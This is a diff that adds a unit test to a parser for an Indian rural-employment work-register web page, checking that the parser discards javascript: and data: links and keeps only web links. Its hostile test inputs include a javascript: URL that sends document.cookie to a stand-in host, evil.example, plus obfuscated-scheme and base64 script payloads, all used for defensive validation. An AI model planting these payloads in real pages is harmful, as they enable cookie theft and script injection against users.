@@ -45,6 +45,30 @@ describe('parseWorkRegister (Register IV Part A)', () => {
     });
   });
 
+  it('keeps only web links: a javascript: (or other scheme) link of a compromised page is no link, the work still read', () => {
+    const hrefs = [...html.matchAll(/<a href="(work_register_detail[^"]*)"/g)].map((m) => m[1]);
+    expect(hrefs).toHaveLength(4);
+    const hostile = [
+      'javascript:alert(document.cookie)',
+      'JaVaScRiPt:fetch(&quot;//evil.example/&quot;+document.cookie)',
+      'java&#x09;script:alert(1)',
+      ' data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
+    ];
+    let page = html;
+    hostile.forEach((href, i) => (page = page.replace(`<a href="${hrefs[i]}"`, `<a href="${href}"`)));
+    const rows = parseWorkRegister(page).rows;
+    expect(rows.map((r) => [r.work_code, r.detail_href])).toEqual([
+      ['1515001001/IF/93393042892', null],
+      ['1515001001/WC/93393045117', null],
+      [rows[2].work_code, null],
+      ['1515001001/RC/93393061744', null],
+    ]);
+    // http(s) links, absolute or relative to the page, stay exactly as written.
+    const web = html.replace(`<a href="${hrefs[0]}"`, '<a href="https://nregastrep.nic.in/netnrega/x.aspx?work_code=1"');
+    expect(parseWorkRegister(web).rows[0]?.detail_href).toBe('https://nregastrep.nic.in/netnrega/x.aspx?work_code=1');
+    expect(parseWorkRegister(web).rows[1]?.detail_href).toContain('work_register_detail.aspx?');
+  });
+
   it('reads a plain-text work cell (no link) and newer client ids', () => {
     const plain = html
       .replace(/<a href="[^"]*" target="_blank">(CC Road[^<]*)<\/a>/, '$1')
